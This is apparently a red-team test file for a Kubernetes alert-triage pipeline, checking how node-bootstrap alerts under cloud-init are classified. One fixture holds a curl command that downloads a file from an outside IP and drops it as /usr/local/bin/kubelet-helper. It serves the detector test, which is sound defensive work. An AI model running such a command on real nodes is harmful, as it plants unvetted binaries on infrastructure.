/**
 * Red-team traps for node-bootstrap (the node's bootstrap agent configuring runtime and kubelet around registration):
 * any child of cloud-init in the window was bootstrap, whatever it did. `curl … -o /usr/local/bin/kubelet-helper`
 * under cloud-init two minutes after the node joined is a binary dropped onto the node. A child of the agent that
 * names paths must name configuration bootstrap writes (the runtime's, the kubelet's, the CNI's, kernel settings).
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, indexOf, node } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const joined = node(N, '10.0.1.10');
joined.metadata.creationTimestamp = '2026-01-01T11:58:00Z';
const index = indexOf([joined]);
const cloudInit = { name: 'cloud-init', path: '/usr/bin/cloud-init', commandLine: '/usr/bin/cloud-init modules --mode=final' };

describe('redteam2 node-bootstrap: a child of cloud-init that is not configuration', () => {
  it('trap: curl dropping /usr/local/bin/kubelet-helper under cloud-init two minutes after registration stays genuine', () => {
    const v = triageAlert(
      alert({ host: N, title: 'Binary downloaded to system path', process: { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s http://198.51.100.7/x -o /usr/local/bin/kubelet-helper' }, ancestors: [cloudInit] }),
      { index },
    ).verdict;
    expect(v.label).toBe('genuine');
  });
  it('still bootstrap: cloud-init’s child writing the kubelet configuration', () => {
    const v = triageAlert(
      alert({ host: N, title: 'Kubelet configuration modified', file: '/etc/kubernetes/kubelet/config.json', process: { name: 'tee', path: '/usr/bin/tee', commandLine: 'tee /etc/kubernetes/kubelet/config.json' }, ancestors: [cloudInit] }),
      { index },
    ).verdict;
    expect(v.label).toBe('likely-false-positive');
  });
});
